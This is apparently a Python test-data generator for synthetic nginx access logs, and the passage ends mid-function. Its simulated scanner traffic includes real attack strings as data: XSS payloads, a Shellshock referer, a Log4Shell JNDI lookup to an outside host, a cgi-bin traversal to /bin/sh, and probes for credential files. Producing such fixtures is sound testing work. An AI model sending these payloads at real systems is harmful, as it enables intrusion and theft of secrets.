"""Synthetic nginx access logs in nginx's default ``main`` format, for demos, tests and benchmarks.

Lines are built from pools of pre-formatted fields drawn once per seed, so writing costs little more
than one f-string per line; memory does not grow with the number of lines.
"""

from __future__ import annotations

import gzip
import math
import random
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from ipaddress import IPv4Address
from itertools import accumulate, chain, islice, repeat
from pathlib import Path
from typing import Generic, TextIO, TypeVar
from urllib.parse import quote

__all__ = ["LogSpec", "generate_lines", "nginx_escape", "write_log"]

T = TypeVar("T")

# strftime's %b follows the locale; nginx always writes English abbreviations.
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

_CHUNK = 8192  # lines per batch: large enough to amortise the per-batch calls, small enough for cache
_POOL_BITS = 13  # every client's request pool has 2**13 entries, so one index draw serves all clients
_POOL_SIZE = 1 << _POOL_BITS
_CLIENTS = 3000
_SITE = "https://www.example.com"
_GZIP_LEVEL = 1  # benchmarks write 10M lines: level 1 is twice as fast as 6 for ~40% more bytes


@dataclass(frozen=True)
class LogSpec:
    """What to generate; the same spec always gives the same bytes."""

    lines: int = 100_000
    start: datetime = datetime(2023, 8, 12, 23, 0, tzinfo=UTC)
    span: timedelta = timedelta(hours=2)
    seed: int = 42
    malformed_ratio: float = 0.002
    utc_offset_minutes: int = 0

    def __post_init__(self) -> None:
        if self.lines < 0:
            raise ValueError(f"lines must be >= 0, got {self.lines}")
        if self.start.utcoffset() is None:
            raise ValueError("start must be timezone-aware")
        if self.span < timedelta(0):
            raise ValueError(f"span must be >= 0, got {self.span}")
        if not 0.0 <= self.malformed_ratio <= 1.0:
            raise ValueError(f"malformed_ratio must be in [0, 1], got {self.malformed_ratio}")
        if not -24 * 60 < self.utc_offset_minutes < 24 * 60:
            raise ValueError(f"utc_offset_minutes out of range: {self.utc_offset_minutes}")


# ---------------------------------------------------------------------------------------------------------
# Escaping


_ESCAPES = tuple(f"\\x{b:02X}" if b < 0x20 or b > 0x7E or b in b'"\\' else chr(b) for b in range(256))


def nginx_escape(text: str | bytes) -> str:
    """Escape as nginx's ``escape=default`` does: ``"``, ``\\`` and bytes outside 0x20-0x7e give ``\\xNN``."""
    data = text.encode() if isinstance(text, str) else text
    return "".join([_ESCAPES[b] for b in data])


# ---------------------------------------------------------------------------------------------------------
# Randomness


def _rng(seed: int, stream: str) -> random.Random:
    """A reproducible stream per purpose, so that changing how one part draws never shifts the others."""
    return random.Random(f"{seed}:{stream}")  # noqa: S311 - test data, not security


@dataclass(frozen=True)
class _Choice(Generic[T]):
    """Values with cumulative weights, for repeated weighted draws."""

    values: tuple[T, ...]
    cum: tuple[float, ...]

    @classmethod
    def of(cls, weights: Mapping[T, float]) -> _Choice[T]:
        return cls(tuple(weights), tuple(accumulate(weights.values())))

    @classmethod
    def ranked(cls, values: Sequence[T], exponent: float = 1.0) -> _Choice[T]:
        """Zipf-like popularity: the first value is the most popular."""
        return cls(tuple(values), tuple(accumulate(1 / (i + 1) ** exponent for i in range(len(values)))))

    def pick(self, rng: random.Random) -> T:
        return rng.choices(self.values, cum_weights=self.cum)[0]


# ---------------------------------------------------------------------------------------------------------
# The site: what can be requested


@dataclass(frozen=True)
class _Resource:
    kind: str  # page, static, api, crawl, health, junk, tail
    path: str  # may hold "{id}" and non-ASCII text
    methods: tuple[str, ...] = ("GET", "HEAD")
    size: int = 0  # body bytes of a 200
    queries: tuple[str, ...] = ()
    query_rate: float = 0.0


_PAGE_QUERIES = (
    "utm_source=newsletter&utm_medium=email&utm_campaign=aug23",
    "ref=mail",
    "page={n}",
    "id={id}&ref=mail",
    "lang=fr",
    "fbclid=IwAR{token}",
    "gclid=Cj0KCQjw{token}",
)
_LIST_QUERIES = ("page={n}&limit=50", "page={n}&limit=25", "sort=-created_at&page={n}", "id={id}&ref=mail")
_SEARCH_QUERIES = ("q={term}", "q={term}&page={n}")
_SEARCH_TERMS = (
    "espresso",
    "grinder",
    "french+press",
    "decaf",
    "gift+card",
    "caf\u00e9",
    "caf\u00e9+cr\u00e8me",
    "th\u00e9+vert",
    "\u5496\u5561",
    "burr+grinder+review",
    '"><script>alert(1)</script>',
)
_PRODUCTS = tuple(
    f"{a}-{n}"
    for a in ("classic", "organic", "smart", "vintage", "compact", "deluxe")
    for n in ("coffee-grinder", "espresso-cups", "tea-kettle", "french-press", "milk-frother")
)
_POSTS = tuple(
    f"{y}/{s}"
    for y in (2023, 2022)
    for s in (
        "how-we-roast-our-beans",
        "summer-sale",
        "cold-brew-guide",
        "meet-the-farmers",
        "latte-art-101",
        "water-hardness",
        "grind-size-chart",
        "shipping-update",
        "decaf-explained",
        "team-retreat",
    )
)


def _pages(rng: random.Random) -> list[_Resource]:
    """Pages in decreasing popularity, a few with forms and non-ASCII paths."""
    forms = ("GET", "POST", "HEAD")
    head = [
        ("/", ()),
        ("/blog", ()),
        ("/pricing", ()),
        ("/products", ()),
        ("/search", _SEARCH_QUERIES),
        ("/about", ()),
        ("/login", ()),
        ("/cart", ()),
        ("/contact", ()),
        ("/signup", ()),
        ("/checkout", ()),
        ("/account", ()),
        ("/caf\u00e9/men\u00fa", ()),
        ("/faq", ()),
        ("/fr/\u00e0-propos", ()),
        ("/careers", ()),
        ("/de/\u00fcber-uns", ()),
        ("/index.html", ()),
        ("/terms", ()),
        ("/privacy", ()),
    ]
    pages = [
        _Resource(
            "page",
            path,
            forms if path in ("/login", "/signup", "/contact", "/checkout") else ("GET", "HEAD"),
            _size(rng, 9_000, 60_000),
            queries or _PAGE_QUERIES,
            1.0 if queries else 0.12,
        )
        for path, queries in head
    ]
    tail = [f"/products/{p}" for p in _PRODUCTS] + [f"/blog/{p}" for p in _POSTS]
    tail += [f"/docs/{s}/{p}" for s in ("brewing", "orders", "api") for p in ("intro", "faq", "setup")]
    rng.shuffle(tail)
    pages += [
        _Resource("page", p, ("GET", "HEAD"), _size(rng, 12_000, 80_000), _PAGE_QUERIES, 0.12) for p in tail
    ]
    return pages


def _statics(rng: random.Random) -> list[_Resource]:
    """Assets in decreasing popularity; every page view pulls the first few."""
    core = [
        ("/static/css/main.3f9a1c.css", 48_213),
        ("/static/js/app.8b21d4.js", 312_877),
        ("/static/js/vendor.c04e77.js", 589_104),
        ("/favicon.ico", 15_086),
        ("/static/js/runtime.12ab9f.js", 2_461),
        ("/static/fonts/inter-var.woff2", 41_218),
        ("/static/img/logo.svg", 3_904),
        ("/static/img/hero.webp", 184_532),
        ("/apple-touch-icon.png", 7_213),
        ("/site.webmanifest", 412),
        ("/static/fonts/inter-var-italic.woff2", 43_702),
    ]
    images = [(f"/static/img/products/{p}.webp", _size(rng, 30_000, 300_000)) for p in _PRODUCTS]
    images += [(f"/static/img/products/{p}-thumb.jpg", _size(rng, 3_000, 30_000)) for p in _PRODUCTS]
    images += [(f"/static/img/blog/{p.split('/')[1]}.jpg", _size(rng, 40_000, 400_000)) for p in _POSTS[:10]]
    rng.shuffle(images)
    sized = core + images
    return [_Resource("static", path, ("GET", "HEAD"), size, ("v={token}",), 0.05) for path, size in sized]


_API = (
    ("/api/v1/products", ("GET", "OPTIONS"), 18_000, _LIST_QUERIES, 0.5),
    ("/api/v1/cart", ("GET", "OPTIONS"), 1_200, (), 0.0),
    ("/api/v1/products/{id}", ("GET", "OPTIONS"), 2_400, (), 0.0),
    ("/api/v1/events", ("POST", "OPTIONS"), 2, (), 0.0),
    ("/api/v1/session", ("GET", "POST", "DELETE"), 350, (), 0.0),
    ("/api/v1/search", ("GET",), 9_500, _SEARCH_QUERIES, 1.0),
    ("/api/v1/cart/items", ("POST", "OPTIONS"), 640, (), 0.0),
    ("/api/v1/cart/items/{id}", ("PATCH", "DELETE", "OPTIONS"), 640, (), 0.0),
    ("/api/v1/orders", ("GET", "POST"), 6_300, _LIST_QUERIES, 0.4),
    ("/api/v1/orders/{id}", ("GET", "PUT", "DELETE"), 1_800, (), 0.0),
    ("/api/v1/users/{id}", ("GET", "PATCH", "PUT"), 900, (), 0.0),
    ("/api/v1/recommendations", ("GET",), 4_100, ("id={id}&ref=mail",), 0.7),
    ("/api/v1/auth/token", ("POST",), 820, (), 0.0),
    ("/graphql", ("POST", "GET"), 3_300, (), 0.0),
    ("/api/v2/inventory/{id}", ("GET", "PUT"), 520, (), 0.0),
)
_CRAWL = (
    ("/robots.txt", 312),
    ("/sitemap.xml", 4_811),
    ("/sitemap-products.xml", 12_034),
    ("/feed.xml", 25_530),
    ("/ads.txt", 64),
)
_HEALTH = (("/healthz", 2), ("/api/v1/health", 15), ("/", 24_310), ("/status", 97))
_JUNK = (
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/xmlrpc.php",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/admin.php",
    "/.aws/credentials",
    "/config.json",
    "/backup.zip",
    "/server-status",
    "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx",
    "/data.php?fl=1&url=https://www.google.com/",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
    "/HNAP1/",
    "/.DS_Store",
    "/solr/admin/info/system?wt=json",
    "/_ignition/execute-solution",
    "/.vscode/sftp.json",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/shell.php",
    "/geoserver/web/",
    "/.well-known/security.txt",
    "/telescope/requests",
    "/api/.env",
)
_TAIL_DIRS = ("/", "/old/", "/images/", "/uploads/2019/", "/blog/", "/shop/", "/assets/", "/en/")
_TAIL_WORDS = ("promo", "banner", "index", "news", "product", "page", "offer", "img", "test", "archive")
_TAIL_EXTS = ("html", "php", "jpg", "png", "aspx", "bak", "gif", "pdf")


def _size(rng: random.Random, low: int, high: int) -> int:
    """A log-uniform size: many small bodies, a few large ones."""
    return int(math.exp(rng.uniform(math.log(low), math.log(high))))


def _site(rng: random.Random) -> dict[str, _Choice[_Resource]]:
    """Everything that can be requested, by kind, with Zipf-like popularity inside each kind."""
    api = [_Resource("api", p, m, s, q, r) for p, m, s, q, r in _API]
    junk_methods = ("GET", "POST", "HEAD")
    return {
        "page": _Choice.ranked(_pages(rng)),
        "static": _Choice.ranked(_statics(rng), 0.8),
        "api": _Choice.ranked(api, 0.7),
        "crawl": _Choice.ranked([_Resource("crawl", p, ("GET",), s) for p, s in _CRAWL], 1.5),
        "health": _Choice.ranked([_Resource("health", p, ("GET", "HEAD"), s) for p, s in _HEALTH]),
        "junk": _Choice.ranked([_Resource("junk", p, junk_methods, 0) for p in _JUNK], 0.5),
        "tail": _Choice.ranked([_Resource("tail", "", ("GET", "HEAD"), 0)]),
    }


# ---------------------------------------------------------------------------------------------------------
# Requests: method, target, protocol, status, size and referer


_METHOD_WEIGHTS = {"GET": 100, "POST": 25, "HEAD": 3, "PUT": 8, "PATCH": 6, "DELETE": 6, "OPTIONS": 9}
_STATUS: dict[tuple[str, str], _Choice[int]] = {
    ("page", "*"): _Choice.of(
        {200: 86, 304: 5, 301: 3, 302: 2, 404: 1.5, 499: 1, 500: 0.4, 502: 0.4, 503: 0.3, 504: 0.2, 403: 0.3}
    ),
    ("page", "POST"): _Choice.of({302: 60, 200: 28, 400: 4, 401: 3, 403: 1.5, 500: 1.5, 499: 1, 504: 1}),
    ("static", "*"): _Choice.of({200: 62, 304: 33, 404: 2, 206: 1.5, 499: 1, 403: 0.5}),
    ("api", "*"): _Choice.of(
        {200: 88, 304: 1, 401: 3, 403: 1, 404: 2.5, 429: 0.6, 499: 1, 500: 1, 502: 0.6, 503: 0.4, 504: 0.4}
    ),
    ("api", "POST"): _Choice.of({201: 50, 200: 30, 400: 7, 401: 4, 409: 2, 422: 3, 500: 2, 502: 1, 504: 1}),
    ("api", "PUT"): _Choice.of({200: 86, 400: 5, 404: 4, 409: 2, 401: 2, 500: 1}),
    ("api", "PATCH"): _Choice.of({200: 88, 400: 4, 404: 4, 401: 2, 500: 2}),
    ("api", "DELETE"): _Choice.of({204: 80, 404: 10, 403: 5, 401: 3, 500: 2}),
    ("api", "OPTIONS"): _Choice.of({204: 97, 403: 3}),
    ("crawl", "*"): _Choice.of({200: 95, 304: 3, 404: 2}),
    ("health", "*"): _Choice.of({200: 99, 503: 0.6, 502: 0.2, 504: 0.2}),
    ("junk", "*"): _Choice.of({404: 86, 403: 7, 301: 2, 400: 2, 405: 2, 444: 1}),
    ("tail", "*"): _Choice.of({404: 94, 301: 3, 410: 2, 403: 1}),
}
# nginx's built-in error pages; the application answers API errors with small JSON bodies instead.
_ERROR_PAGE_SIZES = {301: 169, 302: 145, 400: 157, 401: 179, 403: 153, 404: 153, 405: 157, 410: 151}
_ERROR_PAGE_SIZES |= {429: 169, 500: 177, 502: 157, 503: 197, 504: 167}
_EMPTY_STATUSES = frozenset({204, 304, 444, 499})
_DASH_SIZE_RATE = 0.003
_REFERERS = {
    "search": (
        "https://www.google.com/",
        "https://www.google.com/",
        "https://www.google.fr/",
        "https://www.bing.com/",
        "https://duckduckgo.com/",
        "https://yandex.ru/",
        "https://search.yahoo.com/",
        "https://www.google.com/search?q=caf\u00e9+cr\u00e8me",
    ),
    "social": (
        "https://t.co/",
        "https://www.facebook.com/",
        "https://l.facebook.com/",
        "https://www.linkedin.com/",
        "https://news.ycombinator.com/",
        "https://www.reddit.com/",
        "android-app://com.google.android.gm/",
    ),
    "odd": (
        'https://example.com/a?q="x"',
        "http://www.example.com/",
        "https://www.google.com/",
        "() { :; }; /bin/bash -c id",
        "http://\\\\evil",
    ),
}


@dataclass(frozen=True)
class _Profile:
    """How one family of clients uses the site."""

    distinct: int  # distinct request strings to draw; must divide _POOL_SIZE
    kinds: _Choice[str]
    protocols: _Choice[str]
    page_referers: _Choice[str]
    other_referers: _Choice[str]
    raw_unicode: float  # share of non-ASCII targets sent unencoded (browsers percent-encode)


_NO_REFERER = _Choice.of({"-": 97, "internal": 3})
_PROFILES = {
    "browser": _Profile(
        _POOL_SIZE,
        _Choice.of({"static": 46, "page": 30, "api": 21, "tail": 1.5, "crawl": 0.5, "junk": 0.2}),
        _Choice.of({"HTTP/2.0": 62, "HTTP/1.1": 38}),
        _Choice.of({"-": 42, "search": 28, "internal": 20, "social": 10}),
        _Choice.of({"internal": 88, "-": 12}),
        0.15,
    ),
    "crawler": _Profile(
        2048,
        _Choice.of({"page": 76, "static": 8, "crawl": 12, "tail": 4}),
        _Choice.of({"HTTP/1.1": 88, "HTTP/2.0": 12}),
        _NO_REFERER,
        _NO_REFERER,
        0.5,
    ),
    "tool": _Profile(
        2048,
        _Choice.of({"api": 82, "page": 12, "static": 5, "tail": 1}),
        _Choice.of({"HTTP/1.1": 90, "HTTP/2.0": 6, "HTTP/1.0": 4}),
        _NO_REFERER,
        _NO_REFERER,
        0.7,
    ),
    "monitor": _Profile(
        256,
        _Choice.of({"health": 1}),
        _Choice.of({"HTTP/1.1": 65, "HTTP/1.0": 35}),
        _Choice.of({"-": 1}),
        _Choice.of({"-": 1}),
        0.0,
    ),
    "scanner": _Profile(
        2048,
        _Choice.of({"junk": 62, "tail": 28, "page": 10}),
        _Choice.of({"HTTP/1.1": 78, "HTTP/1.0": 22}),
        _Choice.of({"-": 90, "odd": 10}),
        _Choice.of({"-": 90, "odd": 10}),
        1.0,
    ),
}


def _request(rng: random.Random, site: Mapping[str, _Choice[_Resource]], profile: _Profile) -> str:
    """One request as logged: ``"METHOD target PROTO" status size "referer"``."""
    res = site[profile.kinds.pick(rng)].pick(rng)
    method = rng.choices(res.methods, [_METHOD_WEIGHTS[m] for m in res.methods])[0]
    status = (_STATUS.get((res.kind, method)) or _STATUS[res.kind, "*"]).pick(rng)
    target = _target(rng, res, profile)
    protocol = profile.protocols.pick(rng)
    referer = _referer(rng, res, profile, site)
    return f'"{method} {target} {protocol}" {status} {_body_size(rng, res, method, status)} "{referer}"'


def _target(rng: random.Random, res: _Resource, profile: _Profile) -> str:
    """The request target as the client sent it, escaped as nginx logs it."""
    path = _tail_path(rng) if res.kind == "tail" else res.path.replace("{id}", str(_object_id(rng)))
    if res.queries and rng.random() < res.query_rate:
        token = f"{rng.getrandbits(40):010x}"
        term = rng.choice(_SEARCH_TERMS)
        query = rng.choice(res.queries).format(
            n=rng.randint(2, 12), id=_object_id(rng), token=token, term=term
        )
        path = f"{path}?{query}"
    # Browsers percent-encode non-ASCII; scripts and bots often send raw UTF-8, which nginx escapes.
    if path.isascii() or rng.random() < profile.raw_unicode:
        return nginx_escape(path)
    return quote(path, safe="/?&=+,;:@!$'()*[]~%")


def _object_id(rng: random.Random) -> int:
    """Object ids with a few hot ones, as real traffic has."""
    return min(int(20 * rng.paretovariate(1.1)) - 19, 99_999)


def _tail_path(rng: random.Random) -> str:
    """A random dead link, for a long tail of distinct 404 paths."""
    word = rng.choice(_TAIL_WORDS)
    return f"{rng.choice(_TAIL_DIRS)}{word}{rng.randrange(1, 2000)}.{rng.choice(_TAIL_EXTS)}"


def _body_size(rng: random.Random, res: _Resource, method: str, status: int) -> str:
    """Body bytes as nginx logs them."""
    if rng.random() < _DASH_SIZE_RATE:
        return "-"
    if method == "HEAD" or status in _EMPTY_STATUSES:
        return "0"
    if status in (200, 201):
        spread = {"static": 0.0, "crawl": 0.0, "health": 0.0, "api": 0.6}.get(res.kind, 0.15)
        return str(max(2, int(res.size * rng.lognormvariate(0.0, spread))))
    if status == 206:
        return str(rng.randrange(1, max(2, res.size)))
    if res.kind == "api":
        return str(rng.randrange(40, 320))
    return str(_ERROR_PAGE_SIZES.get(status, 157))


def _referer(
    rng: random.Random, res: _Resource, profile: _Profile, site: Mapping[str, _Choice[_Resource]]
) -> str:
    """The Referer header, escaped."""
    source = (profile.page_referers if res.kind == "page" else profile.other_referers).pick(rng)
    if source == "-":
        return "-"
    if source == "internal":
        return _SITE + quote(site["page"].pick(rng).path, safe="/")
    return nginx_escape(rng.choice(_REFERERS[source]))


# ---------------------------------------------------------------------------------------------------------
# Clients: address, user, user agent, forwarded-for, and the pool of requests they make


def _versions(template: str, versions: Sequence[object]) -> tuple[str, ...]:
    """One user agent per version; repeating a version makes it more common."""
    return tuple(template.format(v=v) for v in versions)


_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"
_WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
_IOS = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
_DESKTOP = (
    _versions(_WIN + " " + _WEBKIT + " Chrome/{v}.0.0.0 Safari/537.36", (113, 114, 115, 115, 116))
    + _versions(_MAC + " " + _WEBKIT + " Chrome/{v}.0.0.0 Safari/537.36", (114, 115, 116))
    + _versions("Mozilla/5.0 (X11; Linux x86_64) " + _WEBKIT + " Chrome/{v}.0.0.0 Safari/537.36", (114, 115))
    + _versions(_WIN + " " + _WEBKIT + " Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.1901.188", (115, 116))
    + _versions(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/{v}.0", (115, 116)
    )
    + _versions("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/{v}.0", (114, 116))
    + _versions(
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:109.0) Gecko/20100101 Firefox/{v}.0", (116,)
    )
    + _versions(_MAC + " " + _IOS + " Version/{v} Safari/605.1.15", ("16.5", "16.6"))
    + (_WIN + " " + _WEBKIT + " Chrome/115.0.0.0 Safari/537.36 OPR/101.0.0.0",)
)
_MOBILE = (
    tuple(
        f"Mozilla/5.0 (iPhone; CPU iPhone OS {v.replace('.', '_')} like Mac OS X) {_IOS} Version/{v} "
        "Mobile/15E148 Safari/604.1"
        for v in ("16.5", "16.6", "16.6")
    )
    + tuple(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) " + _IOS + tail
        for tail in (
            " Version/16.6 Mobile/15E148 Safari/604.1",
            " CriOS/115.0.5790.160 Mobile/15E148 Safari/604.1",
            " Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/16.6;FBSS/3;FBLC/fr_FR]",
        )
    )
    + _versions(
        "Mozilla/5.0 (Linux; Android 10; K) " + _WEBKIT + " Chrome/{v}.0.0.0 Mobile Safari/537.36", (115, 116)
    )
    + (
        "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) " + _IOS + " Version/16.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 13; SM-S911B) "
        + _WEBKIT
        + " SamsungBrowser/22.0 Chrome/111.0.5563.116 Mobile Safari/537.36",
        "Dalvik/2.1.0 (Linux; U; Android 12; T\u00e9l\u00e9phone Build/SP1A.210812.016)",
    )
)
_BOTS = (
    (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ("66.249.66.", "66.249.79."),
    ),
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) "
        + _WEBKIT
        + " Chrome/115.0.5790.170 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ("66.249.66.", "66.249.68."),
    ),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", ("40.77.167.", "157.55.39.")),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", ("5.255.253.", "213.180.203.")),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", ("54.36.148.", "54.36.149.")),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", ("185.191.171.",)),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
        ("20.15.240.",),
    ),
    (
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        ("69.171.249.", "173.252.83."),
    ),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", ("20.191.45.",)),
)
_TOOLS = (
    "curl/7.88.1",
    "curl/8.1.2",
    "python-requests/2.31.0",
    "python-httpx/0.24.1",
    "Wget/1.21.3",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "okhttp/4.11.0",
    "PostmanRuntime/7.32.3",
    "axios/1.4.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.8)",
)
_MONITORS = (
    "kube-probe/1.27",
    "ELB-HealthChecker/2.0",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "Blackbox Exporter/0.24.0",
)
_SCANNERS = (
    "-",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "${jndi:ldap://45.83.64.1:1389/a}",
    'Mozilla/5.0" onmouseover="alert(1)',
    "Mozilla/5.0 (X11; Linux x86_64) " + _WEBKIT + " Chrome/81.0.4044.129 Safari/537.36",
)


@dataclass(frozen=True)
class _ClientKind:
    """A family of clients: browsers, crawlers, scripts, monitors or scanners."""

    agents: tuple[str, ...]
    profile: str
    ipv6: float
    users: float  # share of clients logged in with HTTP basic auth
    forwarded: _Choice[int]  # how many addresses in X-Forwarded-For


_DIRECT = _Choice.of({0: 1})
_CLIENT_KINDS = _Choice.of(
    {
        _ClientKind(_DESKTOP, "browser", 0.13, 0.03, _Choice.of({0: 84, 1: 12, 2: 4})): 52,
        _ClientKind(_MOBILE, "browser", 0.18, 0.0, _Choice.of({0: 80, 1: 16, 2: 4})): 28,
        _ClientKind(tuple(ua for ua, _ in _BOTS), "crawler", 0.0, 0.0, _DIRECT): 6,
        _ClientKind(_TOOLS, "tool", 0.1, 0.08, _Choice.of({0: 85, 1: 15})): 8,
        _ClientKind(_MONITORS, "monitor", 0.0, 0.0, _DIRECT): 1.5,
        _ClientKind(_SCANNERS, "scanner", 0.05, 0.0, _DIRECT): 4.5,
    }
)
_BOT_PREFIXES = dict(_BOTS)
_USERS = ("alice", "bob", "admin", "deploy", "j.smith", "ops", "api-client")
_IPV6_PREFIXES = ("2001:db8", "2001:db8", "2a01:cb00", "2600:1700", "2a02:8108", "2409:4042")

# A client as used on the hot path: "ip - user", its request pool, '"ua" "xff"', '"ua"', ip.
_Client = tuple[str, tuple[str, ...], str, str, str]


def _ipv4(rng: random.Random) -> str:
    """A public IPv4 address."""
    while not (address := IPv4Address(rng.getrandbits(32))).is_global or address.is_multicast:
        pass
    return str(address)


def _ipv6(rng: random.Random) -> str:
    """An IPv6 address in its compressed form, sometimes with a run of zeros."""
    groups = [f"{rng.randrange(0x10000):x}" for _ in range(6)]
    if rng.random() < 0.5:
        return f"{rng.choice(_IPV6_PREFIXES)}:{groups[0]}::{groups[1]}"
    return f"{rng.choice(_IPV6_PREFIXES)}:{':'.join(groups)}"


def _address(rng: random.Random, kind: _ClientKind, agent: str) -> str:
    """The client's address: crawlers from their operator's ranges, monitors from inside the network."""
    if agent in _BOT_PREFIXES:
        return f"{rng.choice(_BOT_PREFIXES[agent])}{rng.randrange(1, 255)}"
    if kind.profile == "monitor":
        return f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    return _ipv6(rng) if rng.random() < kind.ipv6 else _ipv4(rng)


def _client(rng: random.Random, pools: Mapping[str, tuple[str, ...]]) -> _Client:
    """A client with its fixed address, user, user agent and forwarded-for, pre-formatted."""
    kind = _CLIENT_KINDS.pick(rng)
    agent = rng.choice(kind.agents)
    ip = _address(rng, kind, agent)
    user = rng.choice(_USERS) if rng.random() < kind.users else "-"
    hops = kind.forwarded.pick(rng)
    forwarded = ", ".join(_ipv4(rng) for _ in range(hops)) or "-"
    ua = nginx_escape(agent)
    return (f"{ip} - {user}", pools[kind.profile], f'"{ua}" "{forwarded}"', f'"{ua}"', ip)


@dataclass(frozen=True)
class _Pools:
    """Clients in decreasing popularity, with cumulative weights for random.choices."""

    clients: tuple[_Client, ...]
    cum_weights: tuple[float, ...]


@lru_cache(maxsize=4)
def _pools(seed: int) -> _Pools:
    """Clients and their request pools; depends only on the seed, so cached across specs."""
    rng = _rng(seed, "pools")
    site = _site(rng)
    requests = {}
    for name, profile in _PROFILES.items():
        distinct = [_request(rng, site, profile) for _ in range(profile.distinct)]
        requests[name] = tuple(islice(chain.from_iterable(repeat(distinct)), _POOL_SIZE))
    clients = tuple(_client(rng, requests) for _ in range(_CLIENTS))
    # Zipf-like, flattened at the top so that no single address dominates.
    cum = tuple(accumulate(1 / (rank + 5) ** 1.05 for rank in range(_CLIENTS)))
    return _Pools(clients, cum)


# ---------------------------------------------------------------------------------------------------------
# Time: how many lines fall in each second


# Relative traffic by local hour: quiet nights, busy days, an evening peak.
_HOURLY = (
    0.35, 0.25, 0.2, 0.17, 0.16, 0.2, 0.3, 0.5, 0.7, 0.85, 0.95, 1.0,
    1.0, 0.97, 0.95, 0.93, 0.92, 0.93, 0.97, 1.0, 0.98, 0.85, 0.65, 0.48,
)  # fmt: skip


def _zone(offset_minutes: int) -> str:
    """The offset as nginx writes it, e.g. -330 -> "-0530"."""
    sign = "-" if offset_minutes < 0 else "+"
    hours, minutes = divmod(abs(offset_minutes), 60)
    return f"{sign}{hours:02d}{minutes:02d}"


def _format_time(local_epoch: int, zone: str) -> str:
    """nginx's $time_local, from seconds since the epoch already shifted to local time."""
    t = datetime.fromtimestamp(local_epoch, UTC)
    return f"{t.day:02d}/{_MONTHS[t.month - 1]}/{t.year}:{t.hour:02d}:{t.minute:02d}:{t.second:02d} {zone}"


def _split(total: int, weights: Sequence[float]) -> list[int]:
    """Split total into integer parts proportional to weights; the parts sum to total exactly."""
    scale = total / sum(weights)
    bounds = [round(acc * scale) for acc in accumulate(weights)]
    bounds[-1] = total
    return [b - a for a, b in zip([0, *bounds[:-1]], bounds, strict=True)]


def _minute_weight(rng: random.Random, minute: int, first: int, last: int, offset: int) -> float:
    """Traffic of one minute: daily shape times noise, with occasional bursts (crawls, campaigns)."""
    covered = min(last, minute * 60 + 59) - max(first, minute * 60) + 1
    hour = ((minute * 60 + offset) % 86400) / 3600
    low = int(hour)
    shape = _HOURLY[low] + (_HOURLY[(low + 1) % 24] - _HOURLY[low]) * (hour - low)
    burst = rng.uniform(2.0, 5.0) if rng.random() < 0.03 else 1.0
    return covered / 60 * shape * rng.lognormvariate(0.0, 0.3) * burst


def _second_weight(rng: random.Random) -> float:
    """Traffic of one second within its minute, with rare spikes."""
    return rng.uniform(0.5, 1.5) * (4.0 if rng.random() < 0.01 else 1.0)


def _second_counts(spec: LogSpec) -> Iterator[tuple[str, int]]:
    """(time as logged, number of lines) for each second that has lines, in order."""
    rng = _rng(spec.seed, "time")
    # nginx truncates to the second, so the first slot is the start's second.
    first = math.floor(spec.start.timestamp())
    last = math.floor((spec.start + spec.span).timestamp())
    offset, zone = spec.utc_offset_minutes * 60, _zone(spec.utc_offset_minutes)
    minutes = range(first // 60, last // 60 + 1)
    weights = [_minute_weight(rng, m, first, last, offset) for m in minutes]
